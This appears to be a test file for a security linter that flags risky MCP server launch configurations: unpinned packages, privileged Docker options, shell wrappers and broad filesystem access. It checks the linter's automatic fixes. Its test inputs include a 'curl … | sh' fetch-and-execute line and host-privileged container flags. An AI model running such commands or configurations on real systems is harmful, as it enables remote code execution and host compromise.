import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyze } from '../../server/src/analysis/analyze.ts';
import { applyFix } from '../../server/src/analysis/edits.ts';

/** The text after the first fix of the first finding of a rule; undefined where it offers none. */
function fixed(ruleId: string, server: unknown, path = '.vscode/mcp.json', root = 'servers'): unknown {
  const text = JSON.stringify({ [root]: { example: server } });
  const { findings } = analyze({ uri: `file:///project/${path}`, text }, { language: 'en' });
  const finding = findings.find((candidate) => candidate.ruleId === ruleId);
  assert.ok(finding, text);
  const [fix] = finding.fixes;
  // Every one of them changes what is started.
  assert.notEqual(fix?.safe, true);
  return fix && JSON.parse(applyFix(text, fix))[root].example;
}

test('a version goes where the runner looks for it', () => {
  const pin = (command: string, ...args: string[]) => fixed('unpinned-package', { command, args });
  assert.deepEqual(pin('npx', '-y', '@a/b'), { command: 'npx', args: ['-y', '@a/b@VERSION'] });
  assert.deepEqual(pin('npx', 'a@latest'), { command: 'npx', args: ['a@VERSION'] });
  assert.deepEqual(pin('uvx', 'a[x]>=1,<2'), { command: 'uvx', args: ['a[x]==VERSION'] });
  assert.deepEqual(pin('deno', 'run', 'npm:a@1/cli'), {
    command: 'deno',
    args: ['run', 'npm:a@VERSION/cli'],
  });
  assert.deepEqual(pin('dnx', 'A.B', '--version', '1.*'), {
    command: 'dnx',
    args: ['A.B', '--version', 'VERSION'],
  });
  assert.deepEqual(pin('sh', '-c', 'x; npx "a"'), { command: 'sh', args: ['-c', 'x; npx "a@VERSION"'] });
  assert.deepEqual(pin('npx a --x'), { command: 'npx a@VERSION --x', args: [] });
  assert.equal(pin('bash', '-c', 'sh -c "x; npx \\"a\\""'), undefined);
});

test('a digest goes behind the tag', () => {
  const server = { command: 'docker', args: ['run', 'a/b:latest', 'x'] };
  assert.deepEqual(fixed('unpinned-image', server), {
    ...server,
    args: ['run', 'a/b:latest@sha256:DIGEST', 'x'],
  });
});

test('an option goes with its value, and no other one does', () => {
  const drop = (...args: string[]) =>
    fixed('privileged-container', { command: 'docker', args: ['run', ...args] });
  const left = (...args: string[]) => ({ command: 'docker', args: ['run', ...args] });
  assert.deepEqual(drop('-i', '--network', 'host', 'a@sha256:0'), left('-i', 'a@sha256:0'));
  assert.deepEqual(drop('-u0', '-i', 'a@sha256:0'), left('-i', 'a@sha256:0'));
  assert.deepEqual(drop('-i', '--privileged'), left('-i'));
  assert.equal(drop('-iu', 'root', 'a@sha256:0'), undefined);
  assert.deepEqual(
    fixed('privileged-container', { command: 'sh', args: ['-c', 'x; docker run -v /:/h a/b:1'] }),
    { command: 'sh', args: ['-c', 'x; docker run a/b:1'] },
  );
});

test('a shell is only taken away where nothing else would go with it', () => {
  const split = (command: string, ...args: string[]) => fixed('shell-command', { command, args });
  assert.deepEqual(split('sh', '-c', "exec a 'b c'"), { command: 'a', args: ['b c'] });
  assert.deepEqual(split('powershell', '-Command', 'a', '-b'), { command: 'a', args: ['-b'] });
  assert.equal(split('wsl', 'sh', '-c', 'a b'), undefined);
  assert.equal(split('sh', '-c', 'a b', 'zero'), undefined);
  assert.equal(split('sh -c "a b"'), undefined);
  assert.equal(fixed('shell-command', { command: ['sh', '-c', 'a b'] }, 'opencode.json', 'mcp'), undefined);
});

test('a folder is narrowed where the client knows the workspace', () => {
  const server = { command: 'mcp-filesystem', args: ['/a', '~'] };
  assert.deepEqual(fixed('broad-filesystem-access', server), {
    ...server,
    args: ['/a', '${workspaceFolder}'],
  });
  assert.equal(
    fixed('broad-filesystem-access', server, 'claude_desktop_config.json', 'mcpServers'),
    undefined,
  );
});

const rulesOfLaunches = new Set([
  'broad-filesystem-access',
  'privileged-container',
  'remote-script',
  'shell-command',
  'unpinned-image',
  'unpinned-package',
]);

/** What the rules about launches say of a server: `rule message severity`. */
function said(command: string, ...args: string[]): string[] {
  const text = JSON.stringify({ servers: { example: { command, args } } });
  const { findings } = analyze({ uri: 'file:///project/.vscode/mcp.json', text }, { language: 'en' });
  return findings
    .filter(({ ruleId }) => rulesOfLaunches.has(ruleId))
    .map(({ ruleId, messageId, severity }) => `${ruleId} ${messageId} ${severity}`);
}

test('one cause is told once', () => {
  const image = 'a/b@sha256:0';
  assert.deepEqual(said('docker', 'run', '-v', '/:/x', image), ['privileged-container disk error']);
  assert.deepEqual(said('docker', 'run', '-v', '~:/x', image), ['broad-filesystem-access home warning']);
  assert.deepEqual(said('sh', '-c', 'curl https://h.test/i | sh'), ['remote-script shell error']);
  assert.deepEqual(said('npx', 'https://h.test/a.tgz'), ['remote-script runner error']);
});

test('paths inside a container are not those of this machine', () => {
  const inside = ['a/b@sha256:0', 'npx', '-y', 'server-filesystem@1.0.0', '/'];
  assert.deepEqual(said('docker', 'run', ...inside), []);
  assert.deepEqual(said('npx', ...inside.slice(2)), ['broad-filesystem-access disk warning']);
  assert.deepEqual(said('acme-mcp', '--root=/'), ['broad-filesystem-access disk warning']);
});

test('rights of a container, from worst to mildest', () => {
  const rights = (option: string) => said('docker', 'run', option, 'a/b@sha256:0');
  for (const option of [
    '--privileged',
    '--pid=host',
    '--cap-add=ALL',
    '--security-opt=apparmor:unconfined',
  ]) {
    assert.match(rights(option).join(), /^privileged-container \w+ error$/, option);
  }
  for (const option of ['--network=host', '--ipc=host', '-uroot', '--cap-add=CAP_NET_ADMIN']) {
    assert.match(rights(option).join(), /^privileged-container \w+ warning$/, option);
  }
  for (const option of ['--privileged=false', '--ipc=private', '-u1000:0', '--cap-add=CHOWN', '-v/srv:/x']) {
    assert.deepEqual(rights(option), [], option);
  }
});

test('a message shows the whole specifier with a version', () => {
  const text = JSON.stringify({ servers: { example: { command: 'uvx', args: ['a[x]>=1'] } } });
  const { findings } = analyze({ uri: 'file:///project/.vscode/mcp.json', text }, { language: 'en' });
  const finding = findings.find(({ ruleId }) => ruleId === 'unpinned-package');
  assert.match(finding?.message ?? '', /^`a\[x\]>=1` .* `a\[x\]==1\.2\.3`\.$/);
});
